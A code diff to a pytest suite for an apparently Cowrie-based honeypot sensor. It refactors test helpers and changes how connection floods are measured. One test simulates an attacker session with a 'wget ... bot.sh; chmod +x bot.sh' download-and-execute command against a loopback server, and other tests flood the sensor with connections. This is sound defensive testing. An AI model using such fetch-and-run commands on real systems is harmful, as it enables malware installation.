@@ -15,7 +15,6 @@ import http.server
 import json
 import os
 import re
-import secrets
 import subprocess
 import threading
 import time
@@ -44,6 +43,11 @@ from test_sensor_clients import (
 def sensor(tmp_path_factory: pytest.TempPathFactory) -> Iterator[SensorProc]:
     with run_sensor(tmp_path_factory.mktemp("clients2"), CLIENT_OVERRIDES) as s:
         yield s
+
+
+def _mkdir(p: Path) -> Path:
+    p.mkdir(parents=True, exist_ok=True)
+    return p
 
 
 def telnet_login(sp: SensorProc, user: str, password: str) -> Spawn:
@@ -216,7 +220,7 @@ class _Recorder(http.server.SimpleHTTPRequestHandler):
 @contextlib.contextmanager
 def http_server(root: Path) -> Iterator[tuple[int, list[str]]]:
     seen: list[str] = []
-    handler = type("Handler", (_Recorder,), {"seen": seen})
+    handler: type[_Recorder] = type("Handler", (_Recorder,), {"seen": seen})
 
     def factory(*args: Any) -> http.server.SimpleHTTPRequestHandler:
         return handler(*args, directory=str(root))
@@ -269,7 +273,7 @@ def test_loopback_download_blocked_by_default(tmp_path: Path) -> None:
     www.mkdir()
     (www / "f.bin").write_bytes(b"should never be fetched")
     with (
-        run_sensor(tmp_path / "s", {"sensor.downloads": {"allow_loopback": False}}) as sp,
+        run_sensor(_mkdir(tmp_path / "s"), {"sensor.downloads": {"allow_loopback": False}}) as sp,
         http_server(www) as (port, seen),
     ):
         pw = unique_pw()
@@ -297,7 +301,7 @@ def flood_sensor(tmp_path_factory: pytest.TempPathFactory) -> Iterator[SensorPro
 
 def rss_mb(sp: SensorProc) -> float:
     assert sp.proc is not None
-    return psutil.Process(sp.proc.pid).memory_info().rss / 2**20
+    return float(psutil.Process(sp.proc.pid).memory_info().rss) / 2**20
 
 
 def login_works(sp: SensorProc, timeout: float = 30) -> None:
@@ -347,15 +351,15 @@ def test_connection_flood_is_capped(flood_sensor: SensorProc) -> None:
         assert sp.proc is not None
         held["alive"] = sp.proc.poll() is None
         held["rss"] = rss_mb(sp)
-        held["connects"] = sum(
-            1 for e in sp.events() if e["eventid"] == "cowrie.session.connect" and e["session"] not in before
-        )
+        evs = sp.events()
+        opened = {e["session"] for e in evs if e["eventid"] == "cowrie.session.connect"} - before
+        held["open"] = len(opened - {e["session"] for e in evs if e["eventid"] == "cowrie.session.closed"})
 
     banners = asyncio.run(_hold_flood(sp.ssh_port, 2000, on_held))
     assert held["alive"]
     assert held["rss"] < 300, held
     assert 200 <= banners <= 300, banners
-    assert held["connects"] <= 300
+    assert 200 <= held["open"] <= 300  # sessions the sensor holds open: never past the cap
     login_works(sp)
     assert sp.proc is not None and sp.proc.poll() is None
 
@@ -388,7 +392,9 @@ def test_garbage_flood_then_normal_logins(flood_sensor: SensorProc) -> None:
     ]
 
     async def main() -> None:
-        jobs = [_garbage(port, payloads[i % len(payloads)]) for i in range(100) for port in (sp.ssh_port, sp.telnet_port)]
+        jobs = [
+            _garbage(port, payloads[i % len(payloads)]) for i in range(100) for port in (sp.ssh_port, sp.telnet_port)
+        ]
         await asyncio.gather(*jobs)
 
     asyncio.run(main())
@@ -417,7 +423,7 @@ def test_events_ingest_and_report(tmp_path: Path) -> None:
     (www / "bot.sh").write_bytes(payload)
     sha = hashlib.sha256(payload).hexdigest()
     pw = unique_pw("lake")
-    with run_sensor(tmp_path / "s", CLIENT_OVERRIDES) as sp, http_server(www) as (port, _):
+    with run_sensor(_mkdir(tmp_path / "s"), CLIENT_OVERRIDES) as sp, http_server(www) as (port, _):
         bad = run(ssh_argv(sp, "123456", cmd="true"))
         assert bad.returncode == 5
         cmd = f"cd /tmp; wget http://127.0.0.1:{port}/bot.sh; chmod +x bot.sh; uname -a"
